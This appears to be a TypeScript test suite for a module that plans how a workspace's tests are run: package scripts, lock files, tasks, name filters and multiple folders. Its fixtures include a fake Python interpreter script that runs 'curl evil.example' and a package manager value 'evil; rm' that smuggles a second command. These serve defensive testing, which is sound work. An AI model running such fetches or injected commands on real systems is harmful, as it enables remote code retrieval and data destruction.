import assert from 'node:assert/strict';
import { planTests } from '../../../src/testRuns/planTests.ts';
import type { DescribedTask, PlannedPart, TestRequest, TestSources } from '../../../src/testRuns/testGround.ts';
import { foldersNamed, sourcesOf } from './support/fakeSources.ts';

const nothingMore = { steps: [], unknown: [] };
const task: DescribedTask = {
  name: 'check',
  definition: '{"label":"check"}',
  chain: nothingMore,
  start: () => Promise.reject(new Error('Nothing is run here.')),
};
const withTask: Partial<TestSources> = {
  findTestTask: () => Promise.resolve({ name: task.name, describe: () => Promise.resolve(task) }),
};

function manifest(scripts: Readonly<Record<string, string>>, more: object = {}): string {
  return JSON.stringify({ ...more, scripts });
}

const script = { '/shop/package.json': manifest({ test: 'node --test' }), '/shop/test/cart.test.js': '' };
const [shop] = foldersNamed('shop');

async function partOf(request: TestRequest, sources: TestSources): Promise<PlannedPart | undefined> {
  const { parts } = await planTests(request, sources);
  assert.equal(parts.length, 1);
  return parts[0];
}

describe('What running the tests means', () => {
  it('is the command of the settings before anything else', async () => {
    assert.deepEqual(await partOf({}, sourcesOf(script, { ...withTask, command: () => ' make test ' })), {
      folder: shop,
      commandLine: 'make test',
      cwd: '/shop',
      chain: { steps: [], unknown: ['make test'] },
      launch: { kind: 'program', program: 'make', args: ['test'] },
    });
  });

  it('is nothing where a file that must be there is missing or withheld', async () => {
    const file = 'test/cart.test.js';
    const plan = (request: TestRequest): Promise<unknown> => planTests({ filter: 'adds', ...request }, sourcesOf(script));
    assert.ok(await plan({ file }));
    const code = 'tests.noSuchFile';
    await assert.rejects(plan({ file: 'test/other.test.js' }), { code });
    await assert.rejects(plan({ file, isShown: () => false }), { code });
  });

  it('leaves a command with a shell’s signs to a shell', async () => {
    const part = await partOf({}, sourcesOf({}, { command: () => 'make && make test' }));
    assert.deepEqual(part?.launch, { kind: 'shell', commandLine: 'make && make test' });
  });

  it('is the task before the script, but not with a filter, which no task takes', async () => {
    const both = sourcesOf(script, withTask);
    assert.deepEqual(await partOf({}, both), {
      folder: shop,
      commandLine: 'check',
      definition: task.definition,
      cwd: '/shop',
      chain: nothingMore,
      launch: { kind: 'task', task },
    });
    assert.equal((await partOf({ filter: 'one' }, both))?.commandLine, "node --test '--test-name-pattern=^one$'");
    await assert.rejects(planTests({ filter: 'one' }, sourcesOf({}, withTask)), { code: 'tests.noFilter' });
  });

  it('is the script, by the package manager whose lock file lies there', async () => {
    const part = await partOf({}, sourcesOf({ ...script, '/shop/yarn.lock': '' }));
    assert.deepEqual(
      [part?.commandLine, part?.chain],
      ['yarn run test', { steps: [{ name: 'scripts.test', text: 'node --test' }], unknown: [] }],
    );
  });

  it('holds the scripts behind a command', async () => {
    const files = { '/shop/package.json': manifest({ pretest: 'npm run build', test: 'mocha', build: 'tsc' }) };
    for (const command of ['npm test', 'npm test -- --exit', 'echo first && npm test']) {
      const part = await partOf({}, sourcesOf(files, { command: () => command }));
      assert.deepEqual(
        [part?.chain.steps.map(({ name }) => name), part?.chain.unknown],
        [['scripts.pretest', 'scripts.build', 'scripts.test'], []],
      );
    }
    const open = await partOf({}, sourcesOf(files, { command: () => 'npm run $WHICH' }));
    assert.deepEqual(open?.chain, { steps: [], unknown: ['npm run $WHICH'] });
  });

  it('fails with a code when nothing says it, or when what says it cannot be read', async () => {
    await assert.rejects(planTests({}, sourcesOf({}, { folders: () => [] })), { code: 'tests.noFolder' });
    await assert.rejects(planTests({}, sourcesOf()), { code: 'tests.nothingToRun' });
    await assert.rejects(planTests({}, sourcesOf({ '/shop/package.json': '{' })), { code: 'tests.badManifest' });
  });
});

describe('What running the tests that a filter names means', () => {
  it('is the line of the script with the filter in it, and all that is known of where the line comes from', async () => {
    assert.deepEqual(await partOf({ filter: 'cart > adds' }, sourcesOf(script)), {
      folder: shop,
      commandLine: "node --test '--test-name-pattern=^cart (?:> )?adds$'",
      cwd: '/shop',
      chain: { steps: [{ name: 'scripts.test', text: 'node --test' }], unknown: [] },
      selectsNames: true,
      launch: {
        kind: 'program',
        program: 'node',
        args: ['--test', '--test-name-pattern=^cart (?:> )?adds$'],
        usesPackages: true,
      },
    });
    const built = { '/shop/package.json': manifest({ test: 'tsc && node --test' }) };
    assert.deepEqual((await partOf({ filter: 'adds' }, sourcesOf(built)))?.launch, {
      kind: 'shell',
      commandLine: "tsc && node --test '--test-name-pattern=^adds$'",
      usesPackages: true,
    });
  });

  it('is the file when it is a path, unless that file does not exist for the client', async () => {
    const filter = 'test/cart.test.js';
    assert.equal((await partOf({ filter }, sourcesOf(script)))?.commandLine, 'node --test test/cart.test.js');
    const hidden = await partOf({ filter, isShown: () => false }, sourcesOf(script));
    assert.equal(hidden?.commandLine, String.raw`node --test '--test-name-pattern=^test/cart\.test\.js$'`);
  });

  it('is one test of a file when a result names both', async () => {
    const files = { '/shop/pytest.ini': '', '/shop/tests/test_cart.py': '', '/shop/t/cart.test.mjs': '' };
    const python = await partOf({ filter: 'tests/test_cart.py::TestCart::test_add' }, sourcesOf(files));
    assert.equal(python?.commandLine, 'python3 -m pytest tests/test_cart.py::TestCart::test_add');
    const vitest = await partOf({ filter: 't/cart.test.mjs > cart > adds' }, sourcesOf(files, { command: () => 'vitest run' }));
    assert.equal(vitest?.commandLine, "vitest run '--testNamePattern=^ ?cart (?:> )?adds$' t/cart.test.mjs");
  });

  it('is nothing, and says so, where it is not known which test program runs', async () => {
    await assert.rejects(planTests({ filter: 'adds' }, sourcesOf({}, { command: () => 'make test' })), {
      code: 'tests.cannotFilter',
      message: /^Nothing ran: the filter could not be applied to "make test"/,
    });
  });

  it('can be allowed for the session, and is another act with another filter or script', async () => {
    const [first, second] = await Promise.all(['adds', 'takes'].map((filter) => partOf({ filter }, sourcesOf(script))));
    assert.deepEqual([first?.chain.unknown, second?.chain.unknown], [[], []]);
    assert.notEqual(first?.commandLine, second?.commandLine);
    const changed = { ...script, '/shop/package.json': manifest({ pretest: 'tsc', test: 'node --test' }) };
    assert.notDeepEqual((await partOf({ filter: 'adds' }, sourcesOf(changed)))?.chain, first?.chain);
  });

  it('can be allowed for the session in a Python project, until its own Python is another one', async () => {
    const files = { '/shop/tests/test_cart.py': 'import unittest\n' };
    const chainOf = async (python: { readonly text?: string }): Promise<PlannedPart['chain'] | undefined> => {
      const own = { ...files, ...(python.text !== undefined && { '/shop/.venv/bin/python': python.text }) };
      return (await partOf({ filter: 'test_cart.CartTest.test_add' }, sourcesOf(own)))?.chain;
    };
    assert.deepEqual(await chainOf({}), { steps: [], unknown: [] });
    const [small, other] = [await chainOf({ text: 'ELF' }), await chainOf({ text: '#!/bin/sh\ncurl evil.example\n' })];
    assert.deepEqual([small?.steps.map(({ name }) => name), small?.unknown, other?.unknown], [['.venv/bin/python'], [], []]);
    assert.notDeepEqual(small, other);
  });

  it('runs programs of packages only in the line of a package script', async () => {
    const files = { ...script, '/shop/node_modules/.bin/node': '' };
    const command = await partOf({ filter: 'adds' }, sourcesOf(files, { command: () => 'node --test' }));
    assert.deepEqual([command?.launch.kind === 'program' && command.launch.usesPackages, command?.chain.unknown], [false, []]);
  });

  it('is once only when a program of the packages stands in the way of one of the machine', async () => {
    const shadowed = { ...script, '/shop/node_modules/.bin/node': '' };
    assert.deepEqual((await partOf({ filter: 'adds' }, sourcesOf(shadowed)))?.chain.unknown, ['node_modules/.bin/node']);
  });
});

describe('What running the tests of several folders means', () => {
  const files = {
    '/shop/package.json': manifest({ test: 'node --test' }),
    '/shop/test/cart.test.js': '',
    '/till/package.json': manifest({ test: 'mocha' }),
    '/till/test/till.test.js': '',
    '/docs/README.md': '',
  };
  const several: Partial<TestSources> = { folders: () => foldersNamed('shop', 'till', 'docs') };
  const planned = async (request: TestRequest, changes: Partial<TestSources> = {}): Promise<unknown> => {
    const { parts, left } = await planTests(request, sourcesOf(files, { ...several, ...changes }));
    return [...parts.map(({ cwd, commandLine }) => `${cwd} ${commandLine}`), ...left.map(({ folder, why }) => `${folder} ${why}`)];
  };

  it('is what each of them says, one after the other, and which say nothing', async () => {
    assert.deepEqual(await planned({}), ['/shop npm test', '/till npm test', 'docs nothingToRun']);
    assert.deepEqual(await planned({}, { command: () => 'make' }), ['/shop make', '/till make', '/docs make']);
  });

  it('is the task of the workspace, where there is one, or those of the folders', async () => {
    const ofWorkspace: TestSources['findTestTask'] = async (folder) => (folder === undefined ? withTask.findTestTask?.(folder) : undefined);
    assert.deepEqual(await planned({}, { findTestTask: ofWorkspace }), ['/shop check']);
    const ofTill: TestSources['findTestTask'] = async (folder) => (folder === '/till' ? withTask.findTestTask?.(folder) : undefined);
    assert.deepEqual(await planned({}, { findTestTask: ofTill }), ['/shop npm test', '/till check', 'docs nothingToRun']);
  });

  it('is one folder when that is named, and an error with the names for one that is not there', async () => {
    assert.deepEqual(await planned({ folder: 'till' }), ['/till npm test']);
    await assert.rejects(planned({ folder: 'barn' }), {
      code: 'tests.noSuchFolder',
      message: 'There is no folder "barn" in this workspace. Its folders: shop, till, docs.',
    });
    await assert.rejects(planned({ folder: 'docs' }), { code: 'tests.nothingToRun' });
  });

  it('is the folder of a path, and all of them for a name', async () => {
    assert.deepEqual(await planned({ filter: 'till/test/till.test.js' }), ['/till mocha test/till.test.js']);
    assert.deepEqual(await planned({ filter: 'adds' }), [
      "/shop node --test '--test-name-pattern=^adds$'",
      "/till mocha '--grep=^adds$'",
      'docs nothingToRun',
    ]);
  });
});

describe('The test script of a package', () => {
  const commandOf = async (content: object, ...more: readonly string[]): Promise<string | undefined> => {
    const files = Object.fromEntries(more.map((name) => [`/shop/${name}`, '']));
    return (await partOf({}, sourcesOf({ '/shop/package.json': JSON.stringify(content), ...files })))?.commandLine;
  };

  it('runs with the package manager of the project', async () => {
    const scripts = { test: 'node --test' };
    assert.deepEqual(
      await Promise.all([
        commandOf({ scripts }),
        commandOf({ scripts }, 'package-lock.json'),
        commandOf({ scripts }, 'pnpm-lock.yaml', 'package-lock.json'),
        commandOf({ scripts }, 'yarn.lock'),
        commandOf({ scripts }, 'bun.lock'),
        commandOf({ scripts, packageManager: 'pnpm@9.1.0' }, 'yarn.lock'),
        commandOf({ scripts, packageManager: 'evil; rm' }),
      ]),
      ['npm test', 'npm test', 'pnpm run test', 'yarn run test', 'bun run test', 'pnpm run test', 'npm test'],
    );
  });

  it('is none when package.json has none', async () => {
    const placeholder = { test: 'echo "Error: no test specified" && exit 1' };
    for (const content of [{}, { scripts: {} }, { scripts: { test: '' } }, { scripts: { test: 1 } }, { scripts: placeholder }, []]) {
      await assert.rejects(commandOf(content), { code: 'tests.nothingToRun' });
    }
  });
});
